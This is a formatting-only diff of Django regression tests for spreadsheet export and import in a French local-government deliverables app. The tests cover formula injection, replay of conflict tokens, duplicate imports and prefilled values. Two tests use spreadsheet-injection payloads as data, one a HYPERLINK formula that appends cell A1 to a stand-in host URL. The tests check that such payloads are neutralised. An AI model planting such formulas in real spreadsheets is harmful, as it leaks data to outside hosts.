@@ -26,17 +26,30 @@ def _livrable_gt1(groupe):
 
 
 def _formules(wb):
-    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
-            if c.data_type == "f"]
+    return [
+        (ws.title, c.coordinate, c.value)
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
 
 
 # --- 1. Formula injection: user text beginning with « = » is written as a formula ---------------------------
 
+
 def test_gt1_text_beginning_with_equals_is_exported_as_text_and_reimports(cast, territoire, groupe_rh, connecte):
     livrable = _livrable_gt1(groupe_rh)
-    gt1.remplir(livrable, territoire, cast["dgs_bordeaux"], RH_PAIE={
-        "exerce": True, "specificites": "=> voir la note du DGS",
-        "sous_activites": '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")'})
+    gt1.remplir(
+        livrable,
+        territoire,
+        cast["dgs_bordeaux"],
+        RH_PAIE={
+            "exerce": True,
+            "specificites": "=> voir la note du DGS",
+            "sous_activites": '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")',
+        },
+    )
     livrable.refresh_from_db()
     version = livrable.version
     client = connecte(cast["dgs_bordeaux"])
@@ -56,8 +69,14 @@ def test_gt2_member_text_is_not_a_formula_in_the_copilots_export(cast, territoir
     from livrables.actions_afor import do_ajouter_element
 
     membre = cast["membre_rh"]
-    do_ajouter_element(livrable, membre, territoire.activites.get(code="RH-PAIE"), "risque",
-                       '=HYPERLINK("http://exemple.invalid","Détails")', membre.organisation)
+    do_ajouter_element(
+        livrable,
+        membre,
+        territoire.activites.get(code="RH-PAIE"),
+        "risque",
+        '=HYPERLINK("http://exemple.invalid","Détails")',
+        membre.organisation,
+    )
     wb = gt2.classeur(connecte(cast["copilote_rh_epci"]).get(gt2.url(territoire, "xlsx")))
     assert _formules(wb) == []
 
@@ -73,6 +92,7 @@ def test_gt3_pourquoi_beginning_with_equals_is_not_a_formula(cast, territoire, l
 
 # --- 2. A conflict choice applies to an app value the user never saw; the token can be replayed ----------------
 
+
 def _conflit_gt1(cast, territoire, groupe_rh, connecte):
     livrable = _livrable_gt1(groupe_rh)
     gt1.remplir(livrable, territoire, cast["dgs_bordeaux"], RH_PAIE={"exerce": True, "specificites": "Avant"})
@@ -87,8 +107,7 @@ def _conflit_gt1(cast, territoire, groupe_rh, connecte):
     return livrable, client, response.context["jeton"], conflit
 
 
-def test_conflict_choice_is_not_applied_to_an_app_value_changed_since_the_page(cast, territoire, groupe_rh,
-                                                                                connecte):
+def test_conflict_choice_is_not_applied_to_an_app_value_changed_since_the_page(cast, territoire, groupe_rh, connecte):
     livrable, client, jeton, conflit = _conflit_gt1(cast, territoire, groupe_rh, connecte)
     # While the DGS reads the conflict page (showing « App 1 »), the project team writes « App 2 ».
     gt1.remplir(livrable, territoire, cast["equipe_projet"], RH_PAIE={"exerce": True, "specificites": "App 2"})
@@ -100,8 +119,9 @@ def test_conflict_choice_is_not_applied_to_an_app_value_changed_since_the_page(c
     [conflit] = response.context["conflits"]
     assert conflit.application == "App 2" and conflit.nouvelle_valeur
     assert "(nouvelle valeur)" in response.content.decode()
-    response = client.post(gt1.url(territoire, "resoudre"), {"jeton": response.context["jeton"],
-                                                              f"choix:{conflit.cle}": "fichier"})
+    response = client.post(
+        gt1.url(territoire, "resoudre"), {"jeton": response.context["jeton"], f"choix:{conflit.cle}": "fichier"}
+    )
     assert response.status_code == 302
     assert gt1.lignes(livrable)["RH-PAIE"].specificites == "Fichier"
 
@@ -110,8 +130,9 @@ def test_conflict_token_cannot_be_replayed_over_a_later_edit(cast, territoire, g
     livrable, client, jeton, conflit = _conflit_gt1(cast, territoire, groupe_rh, connecte)
     donnees = {"jeton": jeton, f"choix:{conflit.cle}": "fichier"}
     assert client.post(gt1.url(territoire, "resoudre"), donnees).status_code == 302
-    gt1.remplir(livrable, territoire, cast["equipe_projet"],
-                RH_PAIE={"exerce": True, "specificites": "Correction ultérieure"})
+    gt1.remplir(
+        livrable, territoire, cast["equipe_projet"], RH_PAIE={"exerce": True, "specificites": "Correction ultérieure"}
+    )
     client.post(gt1.url(territoire, "resoudre"), donnees)  # the same form posted again (back button, replay)
     assert gt1.lignes(livrable)["RH-PAIE"].specificites == "Correction ultérieure"
 
@@ -137,6 +158,7 @@ def test_gt2_conflict_token_replay_does_not_add_the_items_twice(cast, territoire
 
 # --- 3. Importing the same filled file twice duplicates every added row (GT2, GT3) -----------------------------
 
+
 def test_gt2_same_file_imported_twice_does_not_duplicate_additions(cast, territoire, livrable, element, connecte):
     client = connecte(cast["copilote_rh_epci"])
     wb = gt2.classeur(client.get(gt2.url(territoire, "xlsx")))
@@ -161,6 +183,7 @@ def test_gt3_same_file_imported_twice_does_not_duplicate_new_lines(cast, territo
 
 # --- 4. A restored version between export and import is silently overwritten -----------------------------
 
+
 def test_restore_between_export_and_import_is_a_conflict(cast, territoire, groupe_rh, connecte):
     from validation.actions import do_restaurer
 
@@ -184,6 +207,7 @@ def test_restore_between_export_and_import_is_a_conflict(cast, territoire, group
 
 # --- 5. Sous-activités compared in two different canonical forms: spurious conflicts ------------------------
 
+
 def test_line_endings_in_sous_activites_are_not_a_conflict(cast, territoire, groupe_rh, connecte):
     livrable = _livrable_gt1(groupe_rh)
     texte = "Bulletins\r\nDSN"  # as a browser's textarea sends it
@@ -191,8 +215,12 @@ def test_line_endings_in_sous_activites_are_not_a_conflict(cast, territoire, gro
     client = connecte(cast["dgs_bordeaux"])
     wb = gt1.classeur(client.get(gt1.url(territoire, "xlsx")))
     # In the app, only the ETP changes.
-    gt1.remplir(livrable, territoire, cast["equipe_projet"], RH_PAIE={"exerce": True, "etp": Decimal("2"),
-                                                                       "sous_activites": texte})
+    gt1.remplir(
+        livrable,
+        territoire,
+        cast["equipe_projet"],
+        RH_PAIE={"exerce": True, "etp": Decimal("2"), "sous_activites": texte},
+    )
     ws = wb.worksheets[0]
     ws.cell(gt1.rang(ws, "RH-PAIE"), 5).value = "Bulletins\nDSN\nAttestations"
     response = client.post(gt1.url(territoire, "importer"), {"fichier": gt1.sauver(wb)})
@@ -203,10 +231,12 @@ def test_line_endings_in_sous_activites_are_not_a_conflict(cast, territoire, gro
 
 # --- 6. The export ignores the payroll ETP the page prefills (issue point 1) ------------------------------
 
+
 def test_export_prefills_etp_from_payroll_like_the_page(cast, territoire, groupe_rh, connecte, lot_courant):
     client = connecte(cast["dgs_bordeaux"])
-    page = client.get(reverse("livrables:gt1_commune", kwargs={"code": territoire.code, "theme": "RH",
-                                                               "commune": BORDEAUX}))
+    page = client.get(
+        reverse("livrables:gt1_commune", kwargs={"code": territoire.code, "theme": "RH", "commune": BORDEAUX})
+    )
     prerempli = {f.activite.code: f.initial.get("etp") for f in page.context["formset"]}
     assert prerempli["RH-PAIE"] == Decimal("3")  # the page shows the payroll's 3 ETP
     ws = gt1.classeur(client.get(gt1.url(territoire, "xlsx"))).worksheets[0]
@@ -214,6 +244,7 @@ def test_export_prefills_etp_from_payroll_like_the_page(cast, territoire, groupe
 
 
 # --- Follow-ups of the review ---------------------------------------------------------------------------
+
 
 def test_gt2_addition_already_present_is_said_after_the_import(cast, territoire, livrable, element, connecte):
     client = connecte(cast["copilote_rh_epci"])
@@ -231,14 +262,14 @@ def test_gt2_addition_already_present_is_said_after_the_import(cast, territoire,
     assert textes.count("Nouveau risque") == 1 and len(textes) == 2
 
 
-def test_resolve_refuses_an_activity_gone_from_the_theme_since_the_conflict_page(cast, territoire, groupe_rh,
-                                                                                 connecte):
+def test_resolve_refuses_an_activity_gone_from_the_theme_since_the_conflict_page(cast, territoire, groupe_rh, connecte):
     livrable, client, jeton, conflit = _conflit_gt1(cast, territoire, groupe_rh, connecte)
     territoire.activites.filter(code="RH-PAIE").update(theme="FIN")  # the referential was edited meanwhile
     response = client.post(gt1.url(territoire, "resoudre"), {"jeton": jeton, f"choix:{conflit.cle}": "fichier"})
     assert response.status_code == 400
-    assert any("n'est plus dans le référentiel de ce thème : réimportez le fichier" in e
-               for e in response.context["erreurs"])
+    assert any(
+        "n'est plus dans le référentiel de ce thème : réimportez le fichier" in e for e in response.context["erreurs"]
+    )
     assert gt1.lignes(livrable)["RH-PAIE"].specificites == "App 1"
 
 
@@ -254,8 +285,9 @@ def test_gt3_resolve_refuses_a_commune_no_longer_member_since_the_conflict_page(
     assert response.status_code == 409
     [conflit] = response.context["conflits"]
     territoire.organisations.filter(code=MERIGNAC).update(membre=False)
-    response = client.post(gt3.url(territoire, "resoudre"), {"jeton": response.context["jeton"],
-                                                              f"choix:{conflit.cle}": "fichier"})
+    response = client.post(
+        gt3.url(territoire, "resoudre"), {"jeton": response.context["jeton"], f"choix:{conflit.cle}": "fichier"}
+    )
     assert response.status_code == 400
     assert any("n'est plus membre du territoire" in e for e in response.context["erreurs"])
     assert gt3.relire(ligne).qualification == 3
@@ -273,15 +305,17 @@ def test_gt3_line_deleted_since_the_conflict_page_is_reported(cast, territoire, 
     [conflit] = response.context["conflits"]
     livrable = ligne.livrable
     ligne.delete()
-    response = client.post(gt3.url(territoire, "resoudre"), {"jeton": response.context["jeton"],
-                                                              f"choix:{conflit.cle}": "fichier"})
+    response = client.post(
+        gt3.url(territoire, "resoudre"), {"jeton": response.context["jeton"], f"choix:{conflit.cle}": "fichier"}
+    )
     assert response.status_code == 400
     assert any("ligne vide pour l'ajouter de nouveau" in e for e in response.context["erreurs"])
     assert not livrable.lignes_mutualisables.exists()
 
 
-def test_export_prefill_is_kept_on_import_and_hidden_from_who_may_not_fill(cast, territoire, groupe_rh, connecte,
-                                                                           lot_courant):
+def test_export_prefill_is_kept_on_import_and_hidden_from_who_may_not_fill(
+    cast, territoire, groupe_rh, connecte, lot_courant
+):
     livrable = _livrable_gt1(groupe_rh)
     # A member of the group who may not fill Bordeaux's list reads the export without its payroll.
     ws = gt1.classeur(connecte(cast["membre_rh"]).get(gt1.url(territoire, "xlsx"))).worksheets[0]
